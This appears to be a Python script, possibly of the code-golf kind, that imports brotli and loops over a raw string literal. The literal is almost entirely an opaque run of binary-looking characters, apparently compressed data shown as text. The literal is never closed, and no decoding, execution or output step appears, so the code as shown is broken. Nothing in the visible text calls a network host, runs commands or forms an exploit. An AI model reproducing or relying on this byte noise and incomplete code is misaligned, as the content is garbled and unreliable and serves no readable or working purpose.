import brotli
n=a=0;b=1
for c in r'''%1`Buf]2.`N3
}# TSar!-&PT4d2v9ݱxUȣ+ܢ	<QLtAIe.
%-Ǫ́S[8P!5J%݂NٗLgqƅM2yv>jf;|a/yؔzFjOeĸ2ʇ&mVF
om+$yfk'ڊُ`whf)os/kHQ
qW%7S";hæ؃7CBٰbôLpCێ*xNmZb|Nпv)kǄ,S	!n&Իc}̋jqĊ"IГI<R|,KQLJ,WM{H/|
/JTf[}VVp`eV;()ҟfj8};~qlG\,}i*Km~jQUSjs3=q2~}nK+b-ɉ	7?΋	)@S͘e_vaEDb`+Oa^`c|F<'uD>FՒ+țSlr\Ϯ̅h;4CِdxƢz^8y{4[J;Ǎf.Lϴ!&Ӊ9A$ԟavWf/irL!MW[)S05/GߐZ.Ru͗)Vx~(7bt :ɧYxZL}7*X'YreWȕF@4܍Kke0JAp'	UHŁ$H4\7q˓D~?I`bv'0̡ԯoypxfpМ1<]A]"/NŃE)Nk9EMƲЋ&hțx0\W[%tr-Ք~9z.|6ڡRMU+]o΀ClkRJū!4ÿL#f5h8(߈ab$FNsH׾UƪjZT6҂R-̬d
)r<U)в@:ixJ	Cg{O,>۪2(wq%"4buPtUd--k$8ozK4VP`7$US~4}M$'-]NWz"݂P-1gNԢC/W"Hgv֦׻ޞ~s/d*׺(N=[99+
TXq'ڂxĵQ;?pK:) f,=,\Mʥժu$"p19[Nbl&SF÷p<(h;ƇJ#H+}h\&ӊː@?}ecH}n2LCkԌ:.ڿ{AK+&r{?n א2dS֟Yi7_ۯUJEFi<uAG<Ͷnx<ر$qz
41M#׻Ti^۪yGH= ٓ%4٨MҶ/kD@K5)ZJUl=_-4ۮF1V&4@!lCT7SÍC`woN4P3Z2
wآ.[5+"
;I	a'F(U,"|%u@ߚ=
BteqGɧ0N_ihΔM`&N((!̟RG̀ҏ^QL1
Kwn^;5KQttyt3^zG>{f2;|6e
­/(iǫ'4a3qߔ{Lk_sP.OmTJח)BK7[`EH{u)0jʱV?ޤ6]\@>i!3&7gǼ	Jx 1n'-M
ĊtRSQ|j@	1VاdēZdɤ%%)X@!Fm'p>gom-8hoH6:Sv6ocs[qNsRC$4Da]7c2=i̜V,Jl%i4RVۍZ5ʾY;6̯wo|ǹϝ>`^wқxEuеo`zHuApəg2$%mt[$RN_@˜V19EQ[&Ѽ.g%($F""ɪ΁7_PNK|SQCw d	K{yWKΔ.c<xt565?\ȋ$k4yeуTܔJIpӨXt[u6OKG`C Of!wdU$?GIn`RL`̊؜_*jׂp5~qS4Π%zXiP1~_A?&Bsg@O̕nyI>9:t>ɻUgpF>*ÒPz~7,ukїR֧Jt>jWޒdvU>De?gD	I9lfQGxJCS,ӚO.L:Â},+O1hx!n6q0;z `t!SdRa%8$A8=ZCkī.0ӉF 9OSŬZA*}@+l,NL݀̭2xh+bLWc"/۵.o|z:߰DH#yi,saZv.ْ:<$%UŃ]9bh?NwI,3aw?/,Gw+[ّc@:'ocQGC=9yCkR,HVt8I,S9ijsu5jN$:XwD-Z6K3v6t7ѽ(+1q>3LŰʚtb^xL!'J+Ο[đ:K	<GoxHKٜR35'ͦf(	"nlp5ٴG>48!٘6'A*٠ǰkTѕHSR>]˂QMpu"lIYŌ۾<B?'l֎pʗn~8?B4z޶* sXɩ[&ӣ	ǰ=M>!2m$P?"ބr2N M̪>8'mt0YJKMmؤĀ%6l9oxԿlyއZI&@W:Fl%)P@UsDq
U	KA({!վ2|~vX
YI]hMAƺ>aeu7SqeŘ̏[e;κH_AvBĊ0D	/RE5tNpµYbze1V*&͙tśA}e(86)Xe?uLO\nԷasĤtȁg &K}ffKQ5PMF~?)l	܈h4%ΟS$2Ͱ6Hoz+ٞ$	}bF#Q{Ftn[Ф5
5m͔-$ukeם[yF=ũYBg*7rKʚǤ1#	g4n/Tt2dqq3mΤ΁ϢY	:~ǈ_J[,<G$A(OܟS"$P*˝NTT{4V:yRy;+(g#Q<o&<?X^L-J=\ٕt>D-@q4i	uKp4M1&Ų2&4'[4Ϫº(#>>13U
!g*VҀ*DcRCCdޤ3dۤTG{HwsK0˺aIjLp7L!Kɤ6/P&L]cƽUšj?G)Ǻ@Ȋ>[ ۣWȜVa&}-f<YV٥cl*2\;W?-Vm|Ij_-,v)+[(`Q1(JI\dQZDۏ?]&wik4t4mkFr,Ԓ*ķ=ý1:WkWޅda2Ţ	Xkڡ	<Y{èL-!â?D{n4oJ]Q>vJM+qwdVPъ3ej:<b)h$P	*v(Āmfz
4+2ƪYϜڻv*+d=IGLݚ3>/"Muc"-.ĵ,6DºAmXM(s.@b>p:bآFҏзLB}*Snh- Iōmh́(h3й
1
GɃ
>~WFJPɀßT6ڸUsn+ˤPDk؟rFÝ]1:7~i'ڥF-87rڹIܗR]ܮj=zi9N1TW4'v
9]?~j+ȀC|J?4~Mهk۱	uFeC`Z.bux˵uMx!M,93nj
o5U?RB
3Ghz=*swUqDD!<1V=i׉`f=?`Ej/q.U*hڎ.K>.ZD`TxnYS
IٴnvoQt7k@=u'n H_:?Gxh	\Rٽ px$TYȲJj"{{ʼ127P?Ģ7#@@еmf\mCcqX܂zmۆF=[5.Ӂ)vM8)v`l|5sOس
_t~f޻EX`AaͫjV%ہڛ.KbӁS*]>%Rq1Mm`;k	z=	ے&xޭt%	"-_;TtDIȿ,	#HWCj{Fz
(K5vsg7vĎŔݸN2rgMRTIՃ|.y­e7-fT	Їqϒ`#es1׺k;͵;,Ng׌QpF7ȾjbF<U`ҚoYê\xI#585]0iTŭ߹,Mt׊`fPڃ!d^39suB+ތn5agD/i/IUE%gǌ-tIԔiNPN(բ/1h&f8+ Sގ F@!(ɻqTh&ǯˌXt9F$3\n׼كjзuJxG3|GTq	+_Hs7-tcdEaҮhG,Mݸm v].KFo&-au	C'L} y(~Fh$/#,g`b̕_sڱCgʞ̎7ٮî3aҡϵryB/e^7(Ui,vũ56j}^Z*D$Xh.|9;<I<AVw$ҷu%?D[,~b7!w؄q=Cw.B<(Złp<G4D.Ań9.O,գh3ӧ'
'=cvq0fWKG`Uí+Uܫt1PqN|CP0/le6YH+ގmUSKĦCkr+U\NӰ`7WW܎Yt34̈́mգeE;G*vN>MA*LUh/EUZ/ۮ/qȌq\7H]|GP<!k9$W~	]ANԳR#̨8XYBוxXFیUCc$.<^Bucғ?U;QbN݅"ɗ{	M±GT^Ll=gd5±1qٚ ڱ%6l-ӳ	}ߘߚ^4g;Ǎɺsg.r[PI.6za>;#'+x~7 %aZ֓qϪ6R:mafK[X5jV \Pa24Dw@i2Ūzd
-%9Xg~%HcP,-[~d_,С?\eȽo ׋|zSBF?~oEA^)΍t;4e`إOΰ[P1pT{^bQK7!!,мwz6U3œP\ĕTf2|vbU-`]G؝<(n	݇)?N7(qA,_΍ *2AF5Ӕle+|&:1	}SQ^,o;+w
Mf
!wLqF"ojuCD,BƽR"Y_f߆ޛ-ډıpGdT[u=5ۡ6gÌd`Bؖk5̨v.]J^ց,3k3_qM\6)6w6-ZS~vf8>))y|m	GÀͲ!4n?F8Aeyχ|yˎ_KEf~&_w'ՕsYgѳ\K'̌yyEՅMX7m۩
H5z+mλںy?"2=wld0+r6`8"BaZޮb
gh_`t]KǠ|;#2uv٫ 
D1@'7VYAt4Wf=1._+-;C6@ũyt(УGӇSsʙ(f]{$Ӳط-ul(^ʳ-Nt!gۃRHڦyH(NqH9z̑əKL#uoWSv	tzЍǟ7L+]ߨyйW	#9tJ(cXt;Ϙ8-u=uYJ1'#ckʯK|a%]Ay(LtExUP˅[j1il e^"hĉ<(a:`Bٯ2M	4|*Ӟx.[ij8ӕ5ؠgg1֓38LPHٽNE`A,ؑ.ډ}T!eqDiʕy{Ό0qWqr&W[5W+DjBor}/ _vgUXq:~4`Ε1#*7,7=<Cp3!9ƻ.e,<jBf(wػgCa-Tr;ԯålɍm5iۇ֣"(>ЩN!FeͲ
4|?9 ܳ"Ky[nȃ3FG%S}}ځt>H<FBwD_x2]y:3,Bevm,1^e5ʢK^=X0(!ۜ.NףHh_WhGXh/ՆgHأлOH&Y((%.1n`Pt)>!X\,nnYn<>>c]\ʥ=j)ŎH]MZޛ5eYIj)Tڐpdy~"JW>tTlnc(#ڿ0ʱ\ȰD͗TХˣ.mѺvuOHRWYZB/\L<LT)R^My)IFљ:sÅֵ#dg(vVrdppZ*٘@6r%r#Z>98a~zWȲq!sȡ:u2ި>f\m	ti~'LhTثihzW&ܸ;RZU2ʯ3ޯo[kͿtǹ]>f	(\'xh4,N+2gِ(Rԧ[>AYxiGJϠlҹB1jF}D65Ǵs3̕MSjhMܮX$5`&l{˶rJs[m?8#.k|Rܖ"(W?O)h5h<ڻ
;&Ȓg"mٶ-5Mlxho$){<?HkDo:)}{++5-UvaK=LqEb|f~"4(Lz8`+9؝^>Ylh.VeA{8D?OגXH`-3֥ZZӾwӦ>@Of2_~)dZM!)GA/zqBҰ[hCN'ѽ{c|W"F?xo1kikoc{s$% ͝oƗDw\DĨµ؍tteA5Eƺ50hYf8fʛ-|&%߂Snޝ=lKҥ3,B/ϋY:%tt?ݼYg
YLqsSA<ɏ>ܙH*p7Ʉ$S>(2"Ӵ'{nۅHABfo\y)RqS8;GФ{({tv]{u·` zI)ϺҞľߍ#ɣxЖFf^q5ҴD2IwzOOv;zI*]ɡI$?YhUѽw_)ӈRI$k}*OfII`j
ib"EH׻ۃ9\ՠWsgKZD^Xr˔/zL	˕׸ѯ</sk)!hD"SlgT1`r[w!܍suC[skV`N(֗cԽٚ dY1}`@e4{"f3;T(ѩ#:h`~=$Ub1psTU$FzƶyoWĶtJ km4	T{b\ H7D3|߰J7HU\ϛ{y[o_ͅ
&IQ$ʚR$Ή?hZ60Í<}=J3.ƯƴuVa1Mzp>ϭ,zg{/nd;iJَ#+}~ox[^RYյSpjZüB,4c7/_GycAhFAlbmXzǀ4$bP*Nސ	%m(ִ>0R0)/!t0%aFaT˷+=JR}{:#[cօ$#ҋ4>^{mJxr_QF-iVƂ$EރEЅMç]lzk6y@ Yx|19q`3 ž7!ܺ1cxل)$th)}bç6}8fh:00^ŝ]M-==_nՌwUkL.m54ؘSol(C-lH[h>gŠJʬ^Shd6P+_?2\,5X7$[:ok&jKy&>_VC9%/9BȈy|jٟtt_Z!+ѕRv1wϐ֟װ	B;\ΓS&@.|mR܀I1ruG|÷^yǙBZ;*}Y6=]z؅(̨L}8L4dHP\ˌ7gm!W5PY:ۚWx8@Yog)>sA!b+^.)m۲WўGubaP,3͆ӳփ9ppB0<"aOחsYöS0%og<C]vӣaDMfG'vc-1LZhrXIn>/D͉9ZOB/9l8Ο#r\@Qƕ3/CPԪ X!*E:h5sm<׾$Hk^]1tSB^ZĮӌӷ,QuiOŉ:HaZi'ʝhQ[øx-޾jɥȾ	ƮeqL	u¤K=̠݇hA0ף;@s*YGh=~jCǨkͫiB"ٱjYe'3دo1esׅ7BÃNʄ3UA`j`{˼6ݖ^ǃ'ёMxL>~FjO}u2b')A,!q/GӦc40o`e<hmsw	!vm"P(B{]8qlF^+Ѣ0gd|p8mJ 2,}7I̅*>[fum:e]1\wI^OvcsY3mȷ8yFW8KYGΓ/^A&c!kȶyfP ;u#`)l>I W؄*mB@ZLҺZ|*֙NQvhk$i#s`4IQtbktw>;u\OX|cJ\JAg!J$dH"gPnJƨ˿/t8z5X8s8,<YTbuQQuGc4պ#F>^r/%|/#K!UcFHjQ5a̜*/6mU
Kyߵ\.^͝W4Z^/,΄`%dW8aԜ7Eܵ_"c/a1DQIvazWϡswZtp[@9IS~ 9KTά&1wr#m4fOˑ_$%3UYsڦ5[l]`UrqЊnHdPz"ݩptU\m+bS+jS%bǚPRx"#1Mɞ5wݍUyϾu(_PuIeSK+OU?xCRGjnm%ASb_Zd؁"U%~G@duPȗ˃i$0ăT/+g[ZAMhj{چÂ6ޣ́2޲cVUYK5{i=^wS_S<O۾zr/R\wmK6?ڭE&mnz'(x|<gȫ@ˇ%aqߛIXjR Q	iqt߆?Ur60yJebv;϶R>6xkCx;^/OL͊t#V+5y2P4kOn~41-UcGֆS="Br)yƨo6)QWƳuךzk׻ͱ~~֣aQ(}a37ЋQHo	k1 	;-Cm&f 5f&Cɜvhi"\iV5b	¡<T?AlI˘W`=`v<+/uX6f	_űcp:PoUK%&Jez[\UrÐ]ƤHùD`@ALďgX_ևǵ_Dqha7މOUB)ֹ31;yXr|B3~f<']]%˓&@ڧI:Љ`^VBǘd4_ĻvEzf;-Fb=0U~@וG,3x%TڦK$S{!UUjhe?Jb3,z	,wh;k9\e9điNI_ؕ8F1=/49KHMpyC( hf]ɜŔM]H26|ۏJ5u0ĊP3]Q#xxmP$gC=;"|*~Rs`pzAo/t'+^bO(#m&M'%YUW?(Y^\x>+DY~M\;f%`hՇ$'`yoTL^&yWa׃x.8ޯ>Xiו5Czs~ćW\<0VaڢW51U8O5[2@yJsXsu*%ϵڎQNS׮O/":z0V?D$}HhkTG7(qpڌ-Pfҟ:ͲȔUܼ-ã8LƬ;=սAr3$sų<IGzvyBLP[-Ge0ɵR:y2-Do`oUEF|&GQíJOKwݦ8o/|8ƫP>nI	μԠL:Lu
G*ۙe]=:ɛ9]XߛNF>_Rb9^nB)kAY;0fكS8HuƋ<K>L	ssK*8JR}áD_vgb˴Bu7h?;imNgͱ5(O)F&Cы:v~}Yt9Fx0ӏ4M5۩ܼVܑ	$2~08_724XV$%5tԉ#BE*XWqkq^:IwM8ּu`g_ƃ9tMR;$7=$^=Mmyaa_d>:S5uvD̢2}|j@"Ujv)TUʏR)&8 pEaεkyK>Tmݯ?8:+כ.d"=_>YoQKLqŃd4Kw?6'fyomvOp]6PkB)_1wjM)?;cEd;>e0]Tǲpȗ]ּAN
$.Z{k]d N	=/С}ӧ1BrZJ,y2P/n6s'

Ӱ7*_!K_UPFI	Xo`۔j6Yf{Paρp/4$!'.Ӥ?ح?ΉݠR٬{Vhʾ@Qdy~PGl8@@Ԕ,:cKw-Qg^6uvK.(;m!wiwPc{E k1-TíDMq6ߗ|!'[X['juc%՚Qâzpfts566ݒ$~\1(ҏ~ͻpyz-sMIܝSELӁlV6֮W׵%˪fv+Gإh\ȖG!*P&sṗG1;xެ<R-vnAJ^EXMX{Q5ѪL&2(A\$WY<O7;4ȭ1z8&OFźHftSju3i|aq!0s]NӿyøfegɊ=z
GȚ
l})'VJkwFf0^F4	ȣ<@r:<Ɩ#!:Suy
ځvsǐas>p̏
7
Ø	EjޠT ܉ZԒ7k{ϕi3Uվ48Ҷo46bDhڭF)+wTf8{%BTrxF>uyUҙ1X+*F8J֯9Wn0
.1і̹:2gD5iּCnɌo`Elep\:yճ$+[l;Q*1æg<ܪigzsMGq(G0Ӫ۬v'm
Ӄ|zW35PRF"~$SŞ-Ҝ\4iʭSQ5*ܴLlQt4`/:Iti-Xߦw޽u<5PH:Y`'݌(duƩ?Yٳ-Xݢ`"-؀%ܽaV>,4%'kZz^JR8K,"*ŜPbD?8!9Θ&/ܩHZM'qXRвplI):R.mQ;y0In4xykN^7	MۄAӕӭ?7ذ
o-.aտE"~8z>ީeV.ʷF-03ޚGà	z~JIb-pH9&1dcq8;3w1KZF8i\I#@VɬƘ2
Es>YmJٖOθYd&sG4I6-S3<bWkA@MN̥Yd^l&Q_q>[خ~IX&tpܵV7ŐL*(y'C,]i|[XmUNʗQ(zYo56I;lu4'DlIWwNlٜЦ)f˦K27F:[2E-ҬYZ<c1S
@ȷ2c]qeu/ը|Cv%vvU֝*V<U)`ޒT)sԾdF5?0~K2Fڥ;,Eԅ!mI,y%yG{v]ȅí)oUyjRJo	`.R7K!ƿjs1&"׿.sȅ|pWזО70
![9F1>ExkA$rԞaΞXׅs7-UeP@c$gg"@֡{  U57)9aw$\jMݮ2T{X<˛Q|	?7Aa g(09TD(.F
"Bwx 9BąO%J76TFei]~+ -r~ٔdݝ.:WSRuK9fih'А"¢QGrsțgr-cy	Y޴{3˛\n$+1ɫh_GNUnNM*~M~]؜[nY\+iFc_5CXkx5\^Zn"NqUNRxQ8~M$x"05OAםp׽OƩ(LT'KHO":5lȔ(x0;QY"~8"DO.V7+$ŎYfS3(;gfk_ ;֖01<<k)#=Op'TD̀S*d	A.\syN<AJ$<qLI-a-ΖÑ0ksMUgߑRʳ`˨ƛ<N70KMv|S2B6)1	lyMgZ\n {AYXc5`7sЗMXaX
PVEDN7DԆDZ5ƠstSݑvGn1"W2]JJGˑ;Z[Å{j)Q܏l&x1tf/`ۜDM2"Ai%N 8>͕/kC^D͹=3@4	*0щuݳ$	Z3$K2>ÁxԀ'3\_6unD4! (٧&Hb͐ќH%c#wއغMz
ӵRVR=[ǵA7z$ )̙4x9*~m;ӁTjDR8][%ǩE+x38ǭ;ګ 8K3{5_PA
e%7Sǻ|V(Bv!RzǦҢa#9
ZmzQ3hhhٟV+`yDjrPN73b/̊EPsշaߣ,FU\<!CdgIL65ԊVO	}e<[+M
2	jaىJojޟʂ|VzP<)j37N78HޛFl ٵф7"Kv<k	\۶ȂSKXBfDxB	7xZ\Tx*|jko`GpQ/f))!ף~Ud7E&i)\$14 vgzoA!>}>!tÒCoޔSjֈ`ёҳO9[df$r%Ar?Ky~)^f`wp,k·z5I@H*b֦R^UFO,l#DLyze؈t`(N7vbz16ÀyUu\>}mvmj;]p"2XvtQydiݧt:˂2FOROˊ\#?/fܨo>K4QcA;®@a{#ut['$k_U˭cV~[ig!l*IZfLU,Jk%kƄ.gXY-AɻY;3$52.BlMeФZ"a_zfs"6&
@ߤivpXq+Ccu]]% <>&Q[fg
my]!dUŚ<XǢĸL̙Ğ{T/U'p_͵popܐ K7ew|Ȓ·8yZڏ~5t2çh4ݲ1R}Qy}yFLJ#ޚMaĂeS-HPW'K'DhU )X
6.L{1a['D}5c	n2TțF:v	9~4ۗ4?MɖPZ{m(\s1­k@.fpە%m,Nү@;$so%Gl"_h<O5yƠ_PZք7pz-UXߨذ/3*2^YŴJ|D<W	Ø.C74[kܭӭGJg@dܲܓ[wq[aeR=7yDvpB©LF4ƛЏW%pTl+S% _Ω7EЩ۔1/Xk
|pe$;l8u/{ͭihT2^[HJT)mGj@6.Xۋ:g(.v|0~IS	{$3=*֦VCR6SON1'@t1fVchY

ã3mc]gW7qjYxg!ApH'H},qjTXߠ*\߁zC+xτ{ Hb8ѿ$L#3*->*G~k1¹YfDwAbnM`9}̚K܊j?UdOAP:twAJŸ|o$lH+,AnލB
i4|JO8WdJV.<oy ȏ߂7HkfnLJ+oNü̄%*-'A_Y4ѣǳ7τ8Pŏ\cZh&${$**'(Hى:1Dl'gm5ıL~ƾ8'@H;|->.ƫ$
}Sa?uf+̇L}IO/1Yk/	ȴpKq-mƵ̼Mp)?ET52Fz0S"ѭM8IłlP˂6r<7D)W/c+4n)b,1^Fdȳ=Mi-=J]8Os!X:28W0;ݐ'ŠjQR		*ʟwKM!̋,/tfe=ʰOЗR!^5Kܒp	Gy`)Zl<ߧZ`gA21`'g؊Pai^ѩܡڗ#r̔<#!Z6\oԠez*5_Fwdܩ" .zx{?~cZ5<SyGRWPI/*ѧd4qӺ}e8ڭ&Z:$$֤n]=
5y.LZC
?<0RE\zyBCE.dx`~cʸ3^\86T]9]p!%qXʭ݊Q\4#SXl3ugڟMPP$.P*(m6*tSOS"~GUYЉ~ȏjS2m"52.7q1I!O"ȫ͉4b͑bZZS%!j^Aȼ()؈T7+Ow]'W0_ ~bh,/dUGLZ<s.0QƬ	2͞Ӓو	N<1N}һO7vm+oiGm; &@0r2KʳQd.3.7ޚT0mUď-TP*Cps40Lj .tZ׼,ΦߥqB?ԆU8|Bɇf	wX6K_,_9$fp:>iLVpm84RNڊOmN_}ʂ#|Vt5zo9dU}"I_U'-7ӏwlz7t-]!}f1%&Y1_mQW/COt)Aj4/|R_45֧6<ؘEۑf`qś҆s׋dFLK-~zʎ=2E[,lGG,=IAAO#z);`V:9wȌVܜϊ89&uTWÏiD\	ڊЃlWy$=w6y:!!^Vݕ̄(qm{ɩWI@%4#\ro%^i7fTX5='}@bW/8jrmsRFSNMRZʒ'5Yݺ׸g$1Bqke&(+z@`^7
^u&+<*֠٘ʚƛ_ơ%i,)}N[>3%ExtctbѵRD\CLnp561B6x˿PEPY xkzȒw%+0pΒkÕؙD6\؆lxg?޽plVג
*N?:0c9!R/բOBFWx/`_< f\pW'rͅԯO(ћ:I+Vl-ֳ1Z;:=s0@>wy)M:[8Ե(jH2CȻuH!BtӒ|k£n&F߰m,]:7unͅ,:noII[ߢ_t'߾bSXuC0bPzl,,YKgϭīӬ7W͆"y8]]%yuSʾkMNr3ѭӈ-/ې`Hc'lx]Hzk!&vl&oփ/ӲԊÄӦ[ZoÁ4x5,+[?iylƀV5I#y+%ź{!Δ;B̺,v^-NzBʚY9,fF[U	/u2>-`n"mE׹CAJ-pVbybpV4evl~go<&,:fabgTht^oM~ݍ_Ou
m1}*N<7OR>	I`{%5N2Á0C׋@UX9aEp?Zb&r?yEPAV'<A+hԊh^<$z3PUaAHB1t:n_NRV6|JL(D1؄N@ժTڒݏ͔aW'I1٬J_ҹrĠXϷy,Axo#м|ideO9OI.ʥq}Ĩ2~&]UC!aLΤB	>S`T%YobO~e%f5FiD	ǀv9ېE~">~Q׿1"{TƵܓ!IZ7h[͐	;*EiGxS;S}'Ȱ,g{SZÅ^]'$Xj)YՈE9Hʔ[Ws Q
;f+,6ϜIXLBiCBpY2LQWDŉNp"?WZzZ3=Ŧ/Ǫۂd.|Û&9chs!CUx)(	aŖfy_V3_@fޱ:r>nj',$ez+Xkwr=?nzֳzܬjڲhx
mޥ?4T-CgTpuՀ$ĸM|O%4؜BB@؆uGjŘΈo2|M]գF!frqɳA	bb%:L/Lw?h2B8Kh-kFG9
lCd,ńEbg9;9H%&Lg!/gE}aݨ.o<i
ɨS8[ft[eVsG6ً>m_"glh6K0x*o:=|>׊kʎ|fOFPgܸЖլJ/ſ2[vWE-lqVh>h
՜C	rXVXU/bnWe3[FԏQOߺMkֿeݙl99ܚY+pӡ(X<eӸM9K4c13cǓ(ooIɶѼڴd4Rxr{ZC`Y>$M:xjoa"72h@?;G@-_{/{vq~]wRsuݔ(~+lcA:kU-ۿZWT g#¢Iq3'LwNκ,Nz!eW4i0qs':]<'H!Ȃ/kh5t<=#u:dx7%"\QGHgq8%$U2Mn~*f:H؂%wVQ-=Oe41|ݴ3^Vv'SFj0"BVgٵAŋMq.<FJo8n~JƙcʛY-=j/<(=ºOHUP6@2+M8"ߖِA-wG	8'0~Ձѽ
̟HдVm"د$|"nξ}߇awݯ|
TŶpNο EeSpsP![+1?G@vϛcNB6\X1R|N}NTMPL_bau2NAE`h's\nݞp	Ģ[Ķ߹5 QVb2g-U5HQƻnnFō&ߏՠ3Y	[/e!gR= B	<=Lf|{;^ra\&-[pshs(|׌
(N>1r]m`V!
ScħV>ŊR8:2:t6U#fm!|Y˛lavY0ōE+ItcQkʺeyXjDӷ<eٕՔ4h
)ۿaج:W?FaSm M&'TnЇglQ`ɿ`']<a$'RiXeG38+#<k۵ԇŕkb0Q29Eq~E5gC"f_)VDFY;
mzXCZlZa݁ǦпPaŤP~L^.wƷv2:6:5l%0
ĐXZoӖwk$6ˣ
73xl?'HxZaww
Bhߒts	9\L4$@O4>ҥMdɾ28=Oϳt֖:Y%z Fl.C?<ɁQtںV^ԠĵTX`R[+,bYa78Oܾ݁_+j>6ʯbfȫ\BL܋<I_*pK2C(}I
VHI^ "pLͲlRDS̀1#PkA}{y@r;l-dvPMO"VJ&9}&Cև2<^mTL0'HѱO8G"!23wuݗ[{k@g=5ՓH˨ pr/ςګ?ٺr1ߧx$aëO`@K	*p\9rwz[`>LyLJa0U.Wcx~S}Vv-7<}&}T<Փj &7=*f]zIQԦOCX.e)ڒQ-U=WJoGށxhk1!ճP$k=(V_-.҄rsAGɘ/-ZRkl0 	[c},TYw0U{b Oa]ؽB0+5R`pc	MŬg )M^u,<rǃ	u'BiȆ:gԢ-
Ozkl?#(zi"+:;`.mdTڼ[Ty+؇,%qPi]a4W|F
f&Hp!Ԡ+pF|kK5@!5C0Ųl!Ԙ.
a~	6+7Kj0xDb%.rjɩFJ!R`;):Ρ@I7RhE=X/[g^֗&ν[=B~	mq|lx}[\u||Qd^ރoHP)RfEuSQ?:Q(xsSh߄/ _G&(tt{lju6Yf]KȸPQŖ:zȑzۍBPW&ğĳR& i4
GesFRJ'TģM* RΗ?@i@,b3oMg,xBTB`Qd_+}3wԧߘov8>uFn>P׻K<nL"˽I0f&'ȶs<Oh*fwmGm:ΖmλִcƙP	=?33M>b$
΢8}˾LQNɉĺs GJ=9rnu'qp@Ԅ̯
.h̶[!u)!7`KȯI2'c@Krc;'o_`l&1hUX.>YZ݌˹G5j=vȩ|aֺ44XNQiZobMd%S[^נa{aOp{aQ&ɱD$Rb
E`\\K؃3
#0ǞgGXgؠЫLND@dV9k5G\ha
OئsJ1iTcڗh̝:ޙ?Csc^lxXEȲm ,ٖ<W'n̷/@*tzPY QpsIP{oɧsO~jK(,1T|BnBo~f>Xjn?`ͺoa<0VľøqI["H%1,Íc6ːeDs{s<FbUDWL]),EAXj(Cw(g+EPb8~gbӅnp7Z]myac?dч%k@EHeռPWBO+	}L~+;(tbcdcH+w"7K'5xʶѓсG|ϳͻC6zIYzsC;<Nw2gN5sNW\ΩD"Ŏ~v-fe{eni)̟#iΝf#ڵ,2ܛҟ/V<wsIh-G))#;lb\2Fʀˍ.
Wٽq1"`9֊>yt8W;-Ϝv߼d?ڠCf6S-KǊF-KqȦv&pDM`}N<\&Qc-\^lg~w6>ַ&Ԝ]@ůtSރ
jI
Ly8QYUԖ]}YҥM-.0ȡFƺ&qĤ8
[$QYgħ`<d^`}j.tc1%SQ[Pi%ѯDޢl,Gs1ǏHIڡȽ\AqC7Ҍ+#QLкkN9[6W}>Tp# =ztk}+U}aя%dcKʍ۹^#aEciPKВ=A^hvQƁQ1{J҄<Ԯ2B_zQaԭˇ
hЎYa8e b/k?7Ua?06mtuB[_9\zc:ߍ'C$гrM
ω>e)riWq{Koǵ/p:Cv:7aT[(D?ּlMh<&ʳXCOߒ\lK0՟j3ɞDZРϿ1ʔmǎ=Iۈ87TGIVYچq9XH}|(kcп>܄Q/F=[YJp[JҕLQ$V9,")
Ȏd/flT?uDE`&	ϔ8kD&[͹6ݵ%ƫӮ.1VQAc'Z:C:}yF,'fVVB
hBִ2/qjӨ&[7n>]lhE8lcB0K>]6m$bE?/r}35o@!=fٵ:Ƨo(ڇ@?;j1\G[ĂPW|aK::>NfS#ܚ7?&5T׾R
(0ڮcm$\h<.ظ*ʎι_$Ȑ]o8ߥΏ@^W)ΛR0ɉ47=ɱf̳eΛmyxzǜI![a֙<ocX%.^!&U5o=6\.|NKB	]]Cp2L6[j"YPAѡzђwŜǝ
D,$Rq&C8~OЇLPbíŲ_ZtUSÊi*K<2^1Z8̿DBIxGC&qe1˒YSuu_rU֞fʳ}< ׅDPJ=Fަq4oj>cWM,5o؈AM?dBu-Eg=l;SKD)}jҌfyr0k ~FLaͽ#7=x˸ҝ4Wޭ\Usy;~@R~xӡMi_qxz	!5օtύ.TεHgz<s~ɛLbϊ3%^ȐEbEnZ1ݩ4Y¯+8q-XI_G߼ ֯L^DbzHBfgLW>/*YOc\J;DzZIKpuɩW*0҂Ww_%EÕXC@-l#S21cHZ;PBOVү]ځwѫq<oM3Lԛ/E'ab2QrR~[B6US\l\>whKkebA^wn#]GUIT`ǰS58aEխD[38tOӗ6pMi,ï/D+.g/mݡ1e=<$*Cps]t[PYzpC+ޖƿ74sh4Ңz& qi\c)Dë́üu3OȖ;׬ן'f\c\<=1ПmJ#|5?)0MT=FϏ|ƹ;$)oOyIYSobnKPF}ȣ"L#0ۊɪɱ,@22ST9}Lux5̐I:grh/E}a$\&61/12=Ykj,kVQ-Ks~ ެ.IxmKkvO$vT^^  ߱*-<qMQuɡ()Vd41=vyYV7h6"~\ǎ(':DGkԍCǊGEqY>Jb&9$GЛϨ2jPp	 Y[^o7x}fɑGQˡ2oh`4xws9%R_:#oƘl;yȩz](=R|RV2܆B'߈Ǟ"(g؃iW< EGcϸ9Ǹ̩lW&~ٹJla!oɑ=e%j`sN[oEy[8U(Z	Bm[8^rtȻ[cR!#XCrЌ96T(;OaKc)1F3r}hZ3i&k 'ܾdA/'Jih۲,w%|ORކdpŜ&O}~?(i_פ]cDopNj^ΏPb)|>fמs7v}RG52AH	FM"3n4iE0DyCm|x_^+=z[XK4%E;Ɣq8$ƫ%T}22GG	F7RG,0`8*ApKk6/N?/Ո0g={ÙbH,|]f^h<lȼ4Z˲4Tc݋KPpZdiܬ*кߪZ84(`e˭̨č&i*1c|Gf2ݜ 	t#`P ͹|ՍNN\((BO>cƘ
Eu*NȀQ3-5x"AMĺ%~nA_tɀd0@O7uR>h]9F:92qS)דUD7lďklY*jӎQg+Ħ;e>'EHuūɘٌBuЇK;M,ĘdUk:֚/teb0kAcNfIĦź)@Qϖ
lT.C\Tgn!Ɂс9g+&$&BBzWRmZ[m@e  ێ3OuBՊHjSpLTV;l7BH=ƈecS>cH!j*Xd<oƸxs(aC^HǷr7ŘYѤ=vNXx<z)^Ƴqԩr4R;oM%19{6˦ece'Zo(ˬΎU[;/cGbԒ+(v<7%tB
hdD1Ŏ̉ƔڰSB5vY)s(Ns|ξA(3ZzNs˃
Cv΂
'PIګ*&W]VǪ<UÆQq_3;x6HPۮM5֫f}txz56[]
}+]q~Ȫd]ul3Y,	PHԯ	*Ǚ9kԭvt>Ҵ0+H*sFSu.7x'^w FN7 u=D	#Cli|'#nCvpjv^[4Cc]ٿ-A(Ԕ$E}+50*Ԓ-_E>Ɩc.ju:2_Ln	kh܇sp6_6$H-RSllnޣ՟=s:nP~sd.i`U<7oJOז9
